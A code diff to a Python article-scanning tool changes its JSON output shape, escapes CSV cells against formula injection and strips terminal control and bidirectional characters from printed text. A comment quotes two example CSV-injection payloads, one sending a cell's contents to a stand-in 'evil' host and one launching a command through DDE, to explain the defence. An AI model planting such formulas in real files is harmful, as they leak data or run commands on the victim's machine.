@@ -73,8 +73,15 @@ def write_scans(
     *,
     on_failure: Any,
     console: Any = None,
+    single: bool = False,
 ) -> tuple[int, int]:
     """Write scan results; failures go to `on_failure(failure)` (stderr), not into the data.
+
+    `single`: the command line named one article (a file, `-` or a URL), so `json` is that
+    article's object; otherwise (several inputs, a directory) it is an array, however many
+    articles the inputs turned out to hold or how many of them failed. The shape follows
+    the command, never the data, so a script parses a folder of one article as it parses a
+    folder of a thousand.
 
     Returns (articles written, failures).
     """
@@ -94,7 +101,13 @@ def write_scans(
         for scan in successes():
             out.write(dumps(scan.to_json()) + "\n")
     elif fmt is OutputFormat.JSON:
-        _write_json_stream(successes(), out)
+        if single:
+            # The one article, or nothing when it could not be scanned (exit code 1 and a
+            # line on stderr say so): `[]` would be a second shape for scripts to expect.
+            for scan in successes():
+                out.write(json.dumps(scan.to_json(), ensure_ascii=False, indent=2) + "\n")
+        else:
+            _write_json_array(successes(), out)
     elif fmt is OutputFormat.CSV:
         writer = csv.writer(out, lineterminator="\n")
         writer.writerow(SCAN_CSV_COLUMNS)
@@ -107,29 +120,39 @@ def write_scans(
     return ok, failed
 
 
-def _write_json_stream(scans: Iterator[ArticleScan], out: IO[str]) -> None:
-    """One object for one article, an array for several, without holding them all."""
-    first = next(scans, None)
-    if first is None:
-        out.write("[]\n")
-        return
-    second = next(scans, None)
-    if second is None:
-        out.write(json.dumps(first.to_json(), ensure_ascii=False, indent=2) + "\n")
-        return
-    out.write("[\n")
-    out.write(dumps(first.to_json()))
-    out.write(",\n" + dumps(second.to_json()))
+def _write_json_array(scans: Iterator[ArticleScan], out: IO[str]) -> None:
+    """An array of articles, one a line, written as they come (never all held in memory)."""
+    out.write("[")
+    first = True
     for scan in scans:
-        out.write(",\n" + dumps(scan.to_json()))
-    out.write("\n]\n")
+        out.write(("\n" if first else ",\n") + dumps(scan.to_json()))
+        first = False
+    out.write("]\n" if first else "\n]\n")
+
+
+#: What a spreadsheet takes for the start of a formula (`=`, `+`, `-`, `@`, and a tab or
+#: carriage return before one). OWASP "CSV Injection": an anchor text such as
+#: `=HYPERLINK("http://evil/?"&A1)` or `=cmd|' /C calc'!A0` in a scanned page would otherwise run
+#: when the csv is opened in Excel or LibreOffice.
+_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _cell(value: str) -> str:
+    """A free-text cell (article name, author, tweet or anchor text) a spreadsheet shows as text:
+    a leading `'` before a formula start. A lone `-` (stdin) is text already and stays as is.
+    URLs, hosts and handles need nothing: the scan only reports http(s) URLs, and hosts and
+    handles cannot start with these characters. JSON and JSON Lines carry the text untouched."""
+    if len(value) > 1 and value.startswith(_FORMULA_START):
+        return "'" + value
+    return value
 
 
 def _csv_rows(scan: ArticleScan) -> Iterator[list[Any]]:
+    article = _cell(scan.article)
     for i, tweet in enumerate(scan.tweets):
         w = tweet.where
         yield [
-            scan.article,
+            article,
             "tweet",
             i,
             tweet.url or "",
@@ -138,9 +161,9 @@ def _csv_rows(scan: ArticleScan) -> Iterator[list[Any]]:
             "",
             tweet.id or "",
             tweet.handle or "",
-            tweet.author or "",
+            _cell(tweet.author or ""),
             tweet.date.isoformat() if tweet.date else "",
-            tweet.text or "",
+            _cell(tweet.text or ""),
             _blank(w.line),
             _blank(w.column),
             w.element or "",
@@ -150,7 +173,7 @@ def _csv_rows(scan: ArticleScan) -> Iterator[list[Any]]:
     for i, link in enumerate(scan.links):
         w = link.where
         yield [
-            scan.article,
+            article,
             "link",
             i,
             link.url,
@@ -161,7 +184,7 @@ def _csv_rows(scan: ArticleScan) -> Iterator[list[Any]]:
             link.status.handle or "" if link.status else "",
             "",
             "",
-            link.text or "",
+            _cell(link.text or ""),
             _blank(w.line),
             _blank(w.column),
             w.element or "",
@@ -174,17 +197,46 @@ def _blank(value: object) -> object:
     return "" if value is None else value
 
 
-def render_scan_table(scan: ArticleScan, console: Any) -> None:
-    """One block per article: its tweets (each with text and links), then its links."""
-    from rich.markup import escape
-    from rich.table import Table
+#: Characters that must not reach a terminal as they are: C0 and C1 controls and DEL (ESC
+#: starts the sequences that move the cursor, clear the screen, set the window title or,
+#: with OSC 52, the clipboard; rich passes ESC through) and the bidirectional overrides and
+#: isolates that make a terminal show text in another order than it is (CVE-2021-42574,
+#: "Trojan Source"). All of them can sit in a scanned page's text, its URLs or a file name.
+_UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
 
+
+def _inert(text: str) -> str:
+    """`text` safe to print on a terminal: each unsafe character as its escape (`\\x1b`,
+    `\\u202e`), visible and inert, and then rich markup escaped (`[bold]` in a page stays text)."""
+    from rich.markup import escape
+
+    return escape(_UNSAFE.sub(lambda m: m.group().encode("unicode_escape").decode("ascii"), text))
+
+
+def render_scan_table(scan: ArticleScan, console: Any) -> None:
+    """One block per article, for people: its tweets (each with text and links), then its links.
+
+        examples/sputnik-pt-2015-syria.txt  text, utf-8: 2 tweet(s), 2 link(s)
+          tweet 0  @mod_russia (Минобороны России)  2015-10-21  text-signature  line 5:1
+            #FOOTAGE Elimination of a militants' strong point (#Aleppo province) https://t.co/...
+            -> https://t.co/eKInDZJCbH
+          kind           tweet  where      url
+          shortened          0  line 5:70  https://t.co/eKInDZJCbH
+
+    Every string from the article (and its name) goes through `_inert`. A URL is never cut or
+    folded (a folded URL cannot be copied from the terminal): it comes last on its line and
+    the terminal wraps it; on a terminal too narrow for the columns and a URL, it gets a line
+    of its own.
+    """
+    article = _inert(scan.article)
     console.print(
-        f"[bold]{escape(scan.article)}[/bold]  {scan.format.value}, {scan.encoding}: "
-        f"{len(scan.tweets)} tweet(s), {len(scan.links)} link(s)"
+        f"[bold]{article}[/bold]  {scan.format.value}, {_inert(scan.encoding or '?')}: "
+        f"{len(scan.tweets)} tweet(s), {len(scan.links)} link(s)",
+        highlight=False,
+        soft_wrap=True,  # a long path is not folded either
     )
     for warning in scan.warnings:
-        console.print(f"  [yellow]warning:[/yellow] {escape(warning)}")
+        console.print(f"  [yellow]warning:[/yellow] {_inert(warning)}", highlight=False)
     for i, t in enumerate(scan.tweets):
         who = " ".join(
             x for x in (f"@{t.handle}" if t.handle else "", f"({t.author})" if t.author else "") if x
@@ -200,25 +252,45 @@ def render_scan_table(scan: ArticleScan, console: Any) -> None:
             )
             if x
         )
-        console.print(f"  [bold cyan]tweet {i}[/bold cyan]  {escape(facts)}", soft_wrap=True)
+        console.print(f"  [bold cyan]tweet {i}[/bold cyan]  {_inert(facts)}", soft_wrap=True, highlight=False)
         if t.text:
-            console.print(f"    {escape(_clip(t.text, 200))}", soft_wrap=True)
+            console.print(f"    {_inert(_clip(t.text, 200))}", soft_wrap=True, highlight=False)
         for url in t.links:
-            console.print(f"    -> {escape(url)}", soft_wrap=True)
+            console.print(f"    -> {_inert(url)}", soft_wrap=True, highlight=False)
     if scan.links:
-        table = Table(show_header=True, header_style="bold", box=None, pad_edge=False)
-        table.add_column("kind", no_wrap=True)
-        table.add_column("tweet", no_wrap=True, justify="right")
-        table.add_column("where", no_wrap=True)
-        table.add_column("url", overflow="fold")
-        for link in scan.links:
-            table.add_row(
+        rows = [
+            (
                 link.kind.value,
                 "" if link.tweet is None else str(link.tweet),
-                str(link.where),
-                escape(link.url),
+                _inert(str(link.where)),
+                link.url,
             )
-        console.print(table)
+            for link in scan.links
+        ]
+        # Widths of what the reader sees: `_inert` added backslashes only for markup, which
+        # rich removes again, so measure the text rich prints.
+        from rich.text import Text
+
+        kind_w = max(len("kind"), *(len(r[0]) for r in rows))
+        tweet_w = max(len("tweet"), *(len(r[1]) for r in rows))
+        where_w = max(len("where"), *(Text.from_markup(r[2]).cell_len for r in rows))
+        prefix_w = 2 + kind_w + 2 + tweet_w + 2 + where_w + 2
+        # Below ~24 cells beside the columns a URL would be wrapped every few characters.
+        own_line = console.width - prefix_w < 24
+
+        def prefix(kind: str, tweet: str, where: str) -> str:
+            pad = " " * (where_w - Text.from_markup(where).cell_len)
+            return f"  {kind:<{kind_w}}  {tweet:>{tweet_w}}  {where}{pad}"
+
+        header = prefix("kind", "tweet", "where")
+        console.print(f"[bold]{header.rstrip() if own_line else header + '  url'}[/bold]", highlight=False)
+        for kind, tweet, where, url in rows:
+            line = prefix(kind, tweet, where)
+            if own_line:
+                console.print(line.rstrip(), highlight=False, soft_wrap=True)
+                console.print(f"    {_inert(url)}", highlight=False, soft_wrap=True)
+            else:
+                console.print(f"{line}  {_inert(url)}", highlight=False, soft_wrap=True)
     console.print()
 
 
